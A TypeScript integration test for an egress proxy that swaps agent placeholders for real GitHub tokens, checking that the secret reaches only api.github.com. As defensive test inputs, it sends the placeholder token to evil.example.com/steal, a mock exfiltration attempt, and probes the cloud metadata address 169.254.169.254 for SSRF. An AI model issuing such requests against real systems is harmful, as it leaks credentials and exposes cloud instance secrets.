/**
 * The network door walkthrough (docs/network-door.md) with real processes: the echo server
 * standing in for api.github.com, `bastion serve` on a copy of
 * examples/network-door (ports 0), `bastion secret add` from stdin,
 * `bastion secret placeholder`, `bastion ca export`, then curl -x: the
 * placeholder reaches api.github.com as the real value (and the echo comes back
 * redacted), the same placeholder to another host is blocked and audited, and an
 * SSRF attempt is refused. Finally `bastion audit verify` passes.
 */
import assert from 'node:assert/strict';
import { cpSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { curlRaw } from '../helpers/egress.ts';
import { ROOT, tempDir } from '../helpers/gateway.ts';
import { CLI, runCli, startProcess, stopAll, type Started } from '../helpers/processes.ts';

const KEY = 'walkthrough-key-0123456789abcdef';
const VALUE = 'ghp_' + 'W4lkThr0ughV4lue'.repeat(2) + 'abcd';

const cli = runCli;
const start = startProcess;

const dir = tempDir();
const config = join(dir, 'bastion.yaml');
let echo: Started;
let served: Started;
let proxy: string;

before(async () => {
  cpSync(join(ROOT, 'examples/network-door/bastion.yaml'), config);
  echo = await start([join(ROOT, 'examples/network-door/echo-server.ts')], { PORT: '0', ECHO_CA_FILE: join(dir, 'echo-ca.pem') }, /listening on 127\.0\.0\.1:(\d+)/);
  const port = echo.match[1] as string;
  const yaml = readFileSync(config, 'utf8').replaceAll(':8443', `:${port}`).replace('127.0.0.1:8790', '127.0.0.1:0').replace('127.0.0.1:8791', '127.0.0.1:0');
  writeFileSync(config, yaml);
  served = await start([CLI, 'serve', '--config', config], { BASTION_DEMO_KEY: KEY, NODE_EXTRA_CA_CERTS: join(dir, 'echo-ca.pem') }, /egress proxy listening on (\S+)/);
  proxy = `http://demo:${KEY}@${served.match[1]}`;
});

after(async () => {
  await stopAll([served?.child, echo?.child]);
});

test('add a secret, give the agent its placeholder, and the real value reaches only api.github.com', async () => {
  const port = echo.match[1] as string;
  const added = await cli(['secret', 'add', 'github', '--hosts', 'api.github.com', '--config', config], { input: `${VALUE}\n` });
  assert.equal(added.code, 0, added.stderr);
  assert.ok(!added.stdout.includes(VALUE) && !added.stderr.includes(VALUE), 'the value is never echoed');
  const ph = (await cli(['secret', 'placeholder', 'github', '--agent', 'demo', '--config', config])).stdout.trim();
  assert.match(ph, /^bst_ph_[a-z2-7]{32}$/);
  const ca = await cli(['ca', 'export', '--out', join(dir, 'ca.pem'), '--config', config]);
  assert.equal(ca.code, 0, ca.stderr);

  const ok = await curlRaw(['-x', proxy, '--cacert', join(dir, 'ca.pem'), '-H', `Authorization: Bearer ${ph}`, `https://api.github.com:${port}/user`]);
  assert.match(ok, /HTTP\/1\.1 200 OK/);
  assert.ok(echo.lines.some((l) => l.includes(`received Authorization: Bearer ${VALUE}`)), 'the upstream received the real value');
  assert.ok(!ok.includes(VALUE), 'the echo the agent gets is redacted');

  const blocked = await curlRaw(['-x', proxy, '--cacert', join(dir, 'ca.pem'), '-H', `Authorization: Bearer ${ph}`, `https://evil.example.com:${port}/steal`]);
  assert.match(blocked, /HTTP\/1\.1 403/);
  assert.match(blocked, /bastion-reason: release\.foreign_host/i);
  assert.ok(!echo.lines.some((l) => l.includes('/steal')), 'nothing reached the other host');
  assert.ok(served.lines.some((l) => /ALERT exfiltration: agent demo to evil\.example\.com/.test(l)), 'an alert was raised');

  const ssrf = await curlRaw(['-x', proxy, 'http://169.254.169.254/latest/meta-data/']);
  assert.match(ssrf, /HTTP\/1\.1 403/);
  assert.match(ssrf, /bastion-reason: ssrf\.address\.metadata/i);

  const tail = await cli(['audit', 'tail', '-n', '50', '--config', config]);
  assert.match(tail.stdout, /demo GET evil\.example\.com:\d+ deny release\.foreign_host/);
  assert.match(tail.stdout, /demo GET 169\.254\.169\.254:80 deny ssrf\.address\.metadata/);
  assert.ok(!tail.stdout.includes(VALUE));

  // Stop cleanly (final checkpoint), then the chain verifies.
  const exited = new Promise((r) => served.child.once('exit', r));
  served.child.kill('SIGINT');
  await exited;
  const verify = await cli(['audit', 'verify', '--config', config]);
  assert.equal(verify.code, 0, verify.stdout + verify.stderr);
});
